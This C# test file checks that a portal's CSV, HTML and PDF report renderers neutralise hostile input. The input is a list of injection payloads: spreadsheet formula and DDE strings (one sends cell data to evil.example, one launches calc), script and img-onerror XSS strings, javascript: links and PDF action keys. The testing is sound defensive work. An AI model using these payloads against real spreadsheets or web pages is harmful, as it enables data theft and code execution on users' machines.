using System.Collections.Immutable;
using System.Text;
using Portal.Reports;
using Portal.Reports.Documents;

namespace Portal.Tests.Reports;

/// <summary>Hostile names and outputs do nothing in any format.</summary>
public sealed class FormatsTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><script>", "a\u202Eb", "\u001B]0;title\u0007",
    ];

    private static Report Evil()
    {
        ImmutableArray<Cell> Row(string text) => [new Cell(text, Under: text), Cell.Mono(text), new Cell(text, Address: "javascript:alert(1)"), new Cell(text, Address: "//evil.example/"), new Cell(text, Address: "/audit/entries/1")];
        ImmutableArray<Block> Blocks(string text) => [new Block.Words(text), new Block.Facts([new(text, text)]), new Block.Table(text, [new(text, 1), new(text, 1), new(text, 1), new(text, 1), new(text, 1)], [Row(text)], text), new Block.Printed(text, [text])];
        return new Report("Kind", Hostile[0], Hostile[7], Hostile[8], [.. Hostile.Select(text => new Fact(text, text))], [.. Hostile.Select(text => new Section(text, Blocks(text)))], Hostile[9], DateTimeOffset.UnixEpoch);
    }

    [Fact]
    public void A_spreadsheet_calculates_nothing_of_what_people_wrote()
    {
        var text = Encoding.UTF8.GetString(ReportFormat.Csv.Render(Evil(), null, default)).TrimStart('\uFEFF');

        foreach (var cell in Cells(text)) Assert.DoesNotMatch("^[=+@\\t\\r\\n＝＋－＠-]", cell);
        Assert.DoesNotContain('\u202E', text);
        Assert.DoesNotContain('\u001B', text);
        Assert.Contains("[U+202E]", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_browser_runs_loads_and_follows_nothing()
    {
        var html = Encoding.UTF8.GetString(ReportFormat.Html.Render(Evil(), new Uri("https://portal.example.com/"), default));

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"javascript", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href=\"//", html, StringComparison.Ordinal);
        Assert.DoesNotContain("href=\"https://evil", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://portal.example.com/audit/entries/1\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("src=\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("url(", html, StringComparison.Ordinal);
        Assert.DoesNotContain('\u202E', html);
        Assert.Contains("default-src 'none'", html, StringComparison.Ordinal);
        Assert.Single(html.Split("</style>")[1..]);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_pdf_holds_no_action_but_links_to_the_portal()
    {
        var pdf = ReportFormat.Pdf.Render(Evil(), new Uri("https://portal.example.com/"), default);
        var text = Encoding.Latin1.GetString(pdf);

        Assert.All(["/JavaScript", "/JS ", "/Launch", "/OpenAction", "/AA ", "/EmbeddedFile", "javascript:", "evil.example"], action => Assert.DoesNotContain(action, text, StringComparison.Ordinal));
        var pages = string.Join(' ', PdfPages.Of(pdf));
        Assert.Contains("<script>alert(1)</script>", pages, StringComparison.Ordinal);
        Assert.Contains("a[U+202E]b", pages, StringComparison.Ordinal);
    }

    // A reader of RFC 4180 of its own.
    private static IEnumerable<string> Cells(string text)
    {
        var (cell, quoted) = (new StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"') cell.Append(text[i++]);
            else if (c == '"') quoted = !quoted;
            else if (!quoted && (c == ',' || (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')))
            {
                yield return cell.ToString();
                cell.Clear();
                if (c == '\r') i++;
            }
            else cell.Append(c);
        }
    }
}
